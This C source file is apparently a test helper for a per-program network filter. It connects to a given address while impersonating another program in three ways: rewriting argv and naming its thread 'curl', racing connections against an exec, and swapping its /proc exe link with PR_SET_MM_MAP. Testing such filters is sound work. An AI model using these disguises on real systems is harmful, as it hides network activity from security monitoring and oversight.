/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Pretends to be the program PRETENDED, and then connects: `attack TRICK ADDRESS PORT [PRETENDED [ITS_ADDRESS]]`.
 * Prints `connected` or the error. It also serves as the honest program: `attack plain` only connects.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct sockaddr_in remote;
static atomic_bool has_tried;

static void die(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	exit(3);
}

static int try_connect(void)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int failed = connect(fd, (struct sockaddr *)&remote, sizeof(remote));

	close(fd);
	return failed;
}

/* Overwrites the arguments, which ps and /proc/PID/cmdline show, and the name of the thread. */
static void rewrite_arguments(char **argv, const char *pretended)
{
	size_t room = 0;

	for (int i = 0; argv[i]; i++)
		room += strlen(argv[i]) + 1;
	pretended = strdup(pretended);
	memset(argv[0], 0, room);
	strncpy(argv[0], pretended, room - 1);
	if (prctl(PR_SET_NAME, "curl"))
		die("PR_SET_NAME");
}

static void *connect_for_ever(void *unused)
{
	while (1) {
		try_connect();
		has_tried = true;
	}
	return unused;
}

/* The threads go on connecting up to the moment at which the exec ends them. */
static void race(char *port, char *pretended, char *address)
{
	pthread_t thread;

	for (int i = 0; i < 8; i++)
		pthread_create(&thread, 0, connect_for_ever, 0);
	while (!has_tried) /* on a busy machine that takes a while */
		usleep(1000);
	usleep(30000);
	execl(pretended, pretended, "plain", address, port, (char *)0);
	die("exec");
}

#ifdef __x86_64__
struct job {
	struct prctl_mm_map map;
	struct sockaddr_in remote;
	unsigned long start, size;
};

__attribute__((always_inline)) static inline long call(long number, long a, long b, long c, long d, long e)
{
	long result;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return result;
}

/* Runs from anonymous memory: PR_SET_MM_MAP fails while a page of the old executable is mapped. */
__attribute__((noinline, noreturn, section(".escape"))) static void escape(struct job *job)
{
	long failed, fd;

	call(__NR_munmap, job->start, job->size, 0, 0, 0);
	failed = call(__NR_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&job->map, sizeof(job->map), 0);
	if (failed)
		call(__NR_exit_group, 100, 0, 0, 0, 0);
	fd = call(__NR_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
	failed = call(__NR_connect, fd, (long)&job->remote, sizeof(job->remote), 0, 0);
	call(__NR_exit_group, failed ? 1 : 0, 0, 0, 0, 0);
	__builtin_unreachable();
}

extern char __executable_start, end;

/* Built with -static -no-pie, so that all of the executable is mapped from __executable_start to end. */
static void replace_executable(const char *pretended)
{
	char *page = mmap(0, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct job *job = (struct job *)(page + 4096);
	unsigned long from = (unsigned long)&__executable_start & ~4095UL;
	void (*run)(struct job *) = (void (*)(struct job *))page;

	if (page == MAP_FAILED)
		die("mmap");
	memcpy(page, (void *)escape, 1024);
	job->remote = remote;
	job->start = from;
	job->size = (((unsigned long)&end + 4095) & ~4095UL) - from;
	for (unsigned long *field = (void *)&job->map; field < (unsigned long *)&job->map.auxv; field++)
		*field = (unsigned long)page;
	job->map.end_code = (unsigned long)page + 1024;
	job->map.start_brk = (unsigned long)page + 2048;
	job->map.brk = job->map.start_brk;
	job->map.auxv = 0;
	job->map.auxv_size = 0;
	job->map.exe_fd = open(pretended, O_RDONLY | O_CLOEXEC);
	run(job);
}
#else
static void replace_executable(const char *pretended)
{
	(void)pretended;
	die("only on x86-64");
}
#endif

int main(int argc, char **argv)
{
	char *trick = strdup(argv[1]);

	if (argc < 4)
		return 2;
	remote.sin_family = AF_INET;
	remote.sin_port = htons(atoi(argv[3]));
	inet_pton(AF_INET, argv[2], &remote.sin_addr);
	if (!strcmp(trick, "arguments"))
		rewrite_arguments(argv, argv[4]);
	else if (!strcmp(trick, "race"))
		race(argv[3], argv[4], argv[5]);
	else if (!strcmp(trick, "executable"))
		replace_executable(argv[4]);
	else if (!strcmp(trick, "wait") && getchar() == EOF)
		return 2;
	if (try_connect()) {
		printf("%s\n", strerror(errno));
		return 1;
	}
	puts("connected");
	return 0;
}
